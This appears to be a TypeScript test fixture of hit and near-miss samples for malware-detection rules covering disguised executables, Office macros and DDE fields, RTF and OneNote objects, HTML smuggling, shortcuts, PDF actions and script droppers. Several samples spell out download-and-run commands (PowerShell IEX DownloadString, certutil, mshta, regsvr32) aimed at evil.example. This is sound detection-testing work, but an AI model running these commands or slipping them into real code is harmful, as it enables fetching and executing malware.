import { EICAR } from './eicar.ts';

/** A content for the rules to judge, with the name and type that the mail gives it. */
export interface RuleSample {
  readonly content: Buffer;
  readonly name?: string;
  readonly type?: string;
}

/** What a rule must find, and its near miss that it must not. */
export interface RuleCase {
  readonly rule: string;
  readonly hits: readonly RuleSample[];
  readonly misses: readonly RuleSample[];
}

const text = (content: string, name?: string, type = 'text/plain'): RuleSample => ({
  content: Buffer.from(content, 'latin1'),
  ...(name === undefined ? {} : { name }),
  type,
});
const html = (content: string): RuleSample => text(content, 'page.html', 'text/html');
const mail = (content: string): RuleSample => text(content, undefined, 'message/rfc822');

const utf16 = (value: string): string => Buffer.from(value, 'utf16le').toString('latin1');
const hexText = (value: string): string => Buffer.from(value, 'latin1').toString('hex');
const base64 = (value: string): string => Buffer.from(value, 'latin1').toString('base64');

const DOS_STUB = ['This program cannot be ', 'run in DOS mode'].join('');
const OLE = `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(504)}`;
const VBA = '\0Attribut\0e VB_Nam\0e = "ThisD';
const RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">';
const OFFICE_RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const LNK = 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F';
const ONENOTE = '\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3';
const STORED_FILE = '\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac';

function pe(): string {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write(DOS_STUB, 0x4e, 'latin1');
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes.toString('latin1');
}

const elf = `\x7fELF\x02\x01\x01\0${'\0'.repeat(56)}`;
const macho = `\xcf\xfa\xed\xfe${'\0'.repeat(60)}`;
const javaClass = `\xca\xfe\xba\xbe\0\0\0\x34${'\0'.repeat(56)}`;
const xor = (value: string, key: number): string =>
  Buffer.from(Buffer.from(value, 'latin1').map((octet) => octet ^ key)).toString('latin1');
const image = (at: number, mark: string, rest: string): string =>
  `${'\0'.repeat(at)}${mark}${'\0'.repeat(2048)}${rest}`;

export const RULE_CASES: readonly RuleCase[] = [
  {
    rule: 'EICAR_Test_File',
    hits: [
      text(EICAR),
      text(`before ${EICAR} after`),
      text(utf16(EICAR)),
      mail(`Subject: x\r\n\r\n${base64(EICAR).slice(0, 76)}\r\n${base64(EICAR).slice(76)}\r\n`),
    ],
    misses: [text(EICAR.replace('STANDARD', 'STANDING')), text(EICAR.slice(0, 60))],
  },
  {
    rule: 'Executable_PE_Disguised',
    hits: [text(pe(), 'invoice.pdf'), text(pe(), 'PHOTO.JPG')],
    misses: [text(pe(), 'setup.exe'), text(`MZ ${'the letters of a name'.repeat(9)}`, 'names.txt')],
  },
  {
    rule: 'Executable_ELF_Disguised',
    hits: [text(elf, 'report.docx')],
    misses: [text(elf, 'libc.so'), text('\x7fELF is how it begins', 'elf.txt')],
  },
  {
    rule: 'Executable_MachO_Disguised',
    hits: [text(macho, 'report.pdf'), text(`\xca\xfe\xba\xbe\0\0\0\x02${'\0'.repeat(56)}`, 'report.pdf')],
    misses: [text(macho, 'libz.dylib'), text(javaClass, 'Main.txt')],
  },
  {
    rule: 'Executable_In_Document',
    hits: [
      text(`%PDF-1.4\n${'x'.repeat(100)}${pe()}`),
      text(`${OLE}${pe()}`, 'a.doc'),
      text(`GIF89a${'x'.repeat(50)}${pe()}`),
    ],
    misses: [text(pe(), 'a.exe'), text(`${OLE}${pe()}`, 'setup.msi'), text(`A text on "${DOS_STUB}".`)],
  },
  {
    rule: 'Executable_Masked_By_XOR',
    hits: [text(xor(pe(), 0x5a)), text(`junk${xor(pe(), 0xff)}`)],
    misses: [text(pe(), 'a.exe'), text(xor(DOS_STUB.slice(0, 30), 0x5a))],
  },
  {
    rule: 'Executable_As_Hex_Text',
    hits: [text(`data = "${hexText(pe())}"`), text('Array(77,90,144,0,3,0,0,0,4,0,0,0,255,255,0,0,184)')],
    misses: [text('The header 4D5A9000 begins a program.'), text(hexText('MZ is not enough to tell'))],
  },
  {
    rule: 'Executable_As_Base64_Text',
    hits: [text(`payload = "${base64(pe())}"`, 'run.ps1'), html(`<script>x="${base64(`12${pe()}`)}"</script>`)],
    misses: [
      mail(`Received: by a\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(pe())}\r\n`),
      text(`payload = "${base64('PK\x03\x04 something else that is long enough')}"`),
    ],
  },
  {
    rule: 'Office_Macro_Dropper',
    hits: [
      text(`${OLE}${VBA}...Document_Open...CreateObject("WScript.Shell")`),
      text(`${OLE}${utf16('_VBA_PROJECT')}..workbook_open..URLDownloadToFileA`),
    ],
    misses: [
      text(`${OLE}${VBA}...Sub Sort()...Range.Sort`),
      text(`${OLE}a manual on Document_Open and WScript.Shell`),
      text(`${VBA}Document_Open CreateObject("WScript.Shell") in no document`),
    ],
  },
  {
    rule: 'Office_Macro_Runs_Itself',
    hits: [text(`${OLE}${VBA}...Sub AutoOpen()...MsgBox "hello"`)],
    misses: [text(`${OLE}${VBA}...Sub Sort()`), text(`${OLE}${VBA}...AutoOpen...powershell -nop`)],
  },
  {
    rule: 'Office_XLM_Macro',
    hits: [
      text(`${OLE}${utf16('Workbook')}\x85\0\x0e\0\x10\x20\0\0\x02\x01\x06\0Macro1`),
      text('PK\x03\x04....xl/macrosheets/sheet1.xml'),
      text('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'),
    ],
    misses: [
      text(`${OLE}${utf16('Workbook')}\x85\0\x0e\0\x10\x20\0\0\0\0\x06\0Sheet1`),
      text('PK\x03\x04....xl/worksheets/sheet1.xml'),
    ],
  },
  {
    rule: 'Office_DDE_Field',
    hits: [
      text(`${OLE}\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x15`),
      text('<w:instrText>DDEAUTO "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe" </w:instrText>'),
      text("=cmd|' /C calc'!A0", 'list.csv'),
      text('{\\rtf1{\\field{\\*\\fldinst DDEAUTO "cmd.exe" "/c calc"}}}'),
    ],
    misses: [
      text('<p>DDE "is" an old way to exchange data. The cmd window shows it.</p>'),
      text('=command|5', 'list.csv'),
      text('{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://example.com/DDEAUTO"}}}'.replace('DDEAUTO', 'ADDED')),
    ],
  },
  {
    rule: 'Office_Package_With_Program',
    hits: [text(`${OLE}${utf16('\x01Ole10Native')}...\x02\0invoice.js\0C:\\Users\\a\\invoice.js\0`)],
    misses: [
      text(`${OLE}${utf16('\x01Ole10Native')}...\x02\0figures.xlsx\0C:\\Users\\a\\figures.xlsx\0`),
      text(`${OLE}...invoice.js\0`),
    ],
  },
  {
    rule: 'Office_Remote_Template',
    hits: [
      text(
        `${RELS}<Relationship Id="rId1" Type="${OFFICE_RELS}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
      ),
      text(
        `${RELS}<Relationship Target="http://203.0.113.9/t.dotm" TargetMode="External" Type="${OFFICE_RELS}/attachedTemplate"/>`,
      ),
    ],
    misses: [
      text(`${RELS}<Relationship Id="rId1" Type="${OFFICE_RELS}/attachedTemplate" Target="Normal.dotm"/>`),
      text(
        `${RELS}<Relationship Id="rId1" Type="${OFFICE_RELS}/hyperlink" Target="https://example.com/" TargetMode="External"/>`,
      ),
    ],
  },
  {
    rule: 'Office_Remote_Object',
    hits: [
      text(
        `${RELS}<Relationship Id="rId9" Type="${OFFICE_RELS}/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>`,
      ),
    ],
    misses: [
      text(`${RELS}<Relationship Id="rId9" Type="${OFFICE_RELS}/oleObject" Target="embeddings/oleObject1.bin"/>`),
    ],
  },
  {
    rule: 'RTF_Equation_Object',
    hits: [
      text(`{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000${hexText('Equation.3')}00}}}`),
      text('{\\rt{\\object\\objdata 0105}{\\*\\objclass Equation.3}}'),
    ],
    misses: [
      text(`{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000${hexText('Excel.Sheet.8')}00}}}`),
      text(`{\\rtf1 The digits ${hexText('Equation.3')} spell a name.}`),
    ],
  },
  {
    rule: 'RTF_Object_Loads_Itself',
    hits: [text('{\\rt{\\object\\objocx\\objupdate{\\*\\objdata 0105 4571\r\n7561 74696f6e 2e33}}}')],
    misses: [text('{\\rtf1{\\object\\objemb{\\*\\objdata 01050000}}}')],
  },
  {
    rule: 'RTF_Object_Program',
    hits: [
      text(`{\\rtf1{\\object{\\*\\objdata 01050000${hexText('Package\0')}...${hexText('invoice.exe\0')}}}}`),
      text(
        `{\\rtf1{\\object\\objautlink{\\*\\objdata 01050000${hexText('OLE2Link\0')}...${hexText('http://evil.example/')}}}}`,
      ),
    ],
    misses: [text(`{\\rtf1{\\object{\\*\\objdata 01050000${hexText('Package\0')}...${hexText('figures.txt\0')}}}}`)],
  },
  {
    rule: 'OneNote_Embedded_Program',
    hits: [
      text(`${ONENOTE}....${STORED_FILE}${'\0'.repeat(20)}MZ\x90\0`),
      text(`${ONENOTE}....${STORED_FILE}${'\0'.repeat(20)}<hta:application>`),
    ],
    misses: [
      text(`${ONENOTE}....${STORED_FILE}${'\0'.repeat(20)}\x89PNG\r\n\x1a\n`),
      text(`${STORED_FILE}${'\0'.repeat(20)}MZ\x90\0`),
    ],
  },
  {
    rule: 'HTML_Smuggling',
    hits: [
      html(
        '<script>var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="x.zip"</script>',
      ),
      html('<script>window.navigator.msSaveOrOpenBlob(new Blob([atob(x)]),"a.iso")</script>'),
      html(
        '<a id=x href="data:application/zip;base64,UEsDB"></a><script>x.setAttribute("download","a.zip");x.click()</script>',
      ),
    ],
    misses: [
      html('<script>var s=atob("aGVsbG8=");document.title=s;</script>'),
      html('<p>Use new Blob([...]), atob(x) and createObjectURL to save a file.</p>'),
      html('<img src="data:image/png;base64,iVBORw0KGgo="><a href="/x.zip" download>x</a>'),
      // A report that brings its library, which saves pictures of charts.
      html(
        `<script>${'e.prototype.draw=function(t){return t.map(n=>n.x)};'.repeat(60)}a.href=URL.createObjectURL(new Blob([Uint8Array.from(atob(c))]))</script>`,
      ),
    ],
  },
  {
    rule: 'HTML_Hidden_Archive',
    hits: [html(`<script>var f=atob("UEsDB${'QAbc'.repeat(40)}");</script>`)],
    misses: [
      html(`<script>var f=atob("iVBOR${'QAbc'.repeat(40)}");</script>`),
      html('<script>if(s.startsWith("UEsDB"))atob(s)</script>'),
    ],
  },
  {
    rule: 'SVG_Script',
    hits: [
      text(
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://evil.example"</script></svg>',
        'x.svg',
        'image/svg+xml',
      ),
    ],
    misses: [
      text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script>function init(e){}</script></svg>',
        'x.svg',
        'image/svg+xml',
      ),
      html('<html><body><svg></svg><script>window.location="/next"</script></body></html>'),
    ],
  },
  {
    rule: 'Script_Host_Dropper',
    hits: [
      text(
        'Set h=CreateObject("MSXML2.XMLHTTP")\nh.open "GET",u\nSet s=CreateObject("WScript.Shell")\ns.Run p',
        'a.vbs',
      ),
      text('var x=new ActiveXObject("Microsoft.XMLHTTP");var s=new ActiveXObject("WScript.Shell");s.Run(p)', 'a.js'),
    ],
    misses: [
      text('Set fso = CreateObject("Scripting.FileSystemObject")', 'a.vbs'),
      text('if (window.ActiveXObject) x = new ActiveXObject("Microsoft.XMLHTTP")', 'ajax.js'),
    ],
  },
  {
    rule: 'Script_PowerShell_Encoded',
    hits: [
      text(`powershell.exe -nop -w hidden -enc ${base64(utf16('Write-Host this is longer than forty'))}`),
      text(`PowerShell -EncodedCommand ${base64(utf16('Write-Host this is longer than forty'))}`),
      text(utf16('powershell -nop -enc SQBFAFgA')),
    ],
    misses: [
      text('powershell -ExecutionPolicy Bypass -File setup.ps1'),
      text('Use powershell with -enc and a command.'),
    ],
  },
  {
    rule: 'Script_PowerShell_Download',
    hits: [
      text("powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
      text('pwsh -c "iwr https://evil.example/a.exe -o a.exe; Start-Process a.exe"'),
    ],
    misses: [
      text('Invoke-WebRequest -Uri https://example.com/data.json -OutFile data.json'),
      text('Please start powershell and type Get-Help.'),
    ],
  },
  {
    rule: 'Script_System_Tool_Download',
    hits: [
      text('certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe', 'a.bat'),
      text('start mshta https://evil.example/a.hta', 'a.cmd'),
      text('regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll', 'a.bat'),
    ],
    misses: [text('certutil -hashfile setup.exe SHA256', 'a.bat'), text('The tool mshta shows HTML applications.')],
  },
  {
    rule: 'Shortcut_Runs_Command',
    hits: [
      text(`${LNK}${'\0'.repeat(60)}${utf16('..\\Windows\\System32\\cmd.exe')}`),
      text(`${LNK}....powershell -w h`),
    ],
    misses: [text(`${LNK}${'\0'.repeat(60)}${utf16('D:\\Documents\\report.docx')}`), text('cmd.exe alone')],
  },
  {
    rule: 'Shortcut_In_Disk_Image',
    hits: [text(image(0x8000, '\x01CD001\x01', `${LNK}rest`)), text(`vhdxfile${'\0'.repeat(100)}${LNK}`)],
    misses: [text(image(0x8000, '\x01CD001\x01', 'README.TXT;1')), text(`${'\0'.repeat(5000)}${LNK}`)],
  },
  {
    rule: 'Internet_Shortcut_To_Share',
    hits: [
      text('[InternetShortcut]\r\nURL=file://203.0.113.9/share/run.exe\r\n', 'a.url'),
      text('[InternetShortcut]\r\nURL=\\\\evil.example@80\\dav\\x.lnk\r\n', 'a.url'),
    ],
    misses: [text('[InternetShortcut]\r\nURL=https://example.com/\r\n', 'a.url')],
  },
  {
    rule: 'PDF_Launch_Action',
    hits: [
      text('%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>'),
      text('%PDF-1.4\n1 0 obj<</S /#4caunch /F (evil.exe)>>'),
    ],
    misses: [text('%PDF-1.4\n(How to use /S/Launch ) Tj'), text('%PDF-1.4\n<</S/URI/URI(https://example.com)/F 4>>')],
  },
  {
    rule: 'PDF_Script_On_Open',
    hits: [
      text('%PDF-1.4\n<</OpenAction<</S/JavaScript/JS(app.launchURL\\("http://evil.example"\\))>>>>'),
      text('%PDF-1.4\n<</OpenAction 5 0 R>>5 0 obj<</S/JavaScript/JS 6 0 R>>'),
    ],
    misses: [
      text('%PDF-1.4\n<</OpenAction[3 0 R/FitH null]>>'),
      text('%PDF-1.4\n<</OpenAction<</S/JavaScript/JS(this.print\\(\\))>>>>'),
    ],
  },
  {
    rule: 'PDF_Embedded_Program',
    hits: [text('%PDF-1.4\n<</Type/Filespec/F(invoice.exe)/EF<</F 9 0 R>>>>9 0 obj<</Type/EmbeddedFile>>')],
    misses: [
      text('%PDF-1.4\n<</Type/Filespec/F(invoice.xml)/EF<</F 9 0 R>>>>9 0 obj<</Type/EmbeddedFile>>'),
      // What each invoice has that carries its data: a link to its sender.
      text(
        '%PDF-1.4\n<</Type/Filespec/F(invoice.xml)/EF<</F 9 0 R>>>>9 0 obj<</Type/EmbeddedFile>><</S/URI/URI(https://example.com)>><</Title(Node.js)>>',
      ),
    ],
  },
];
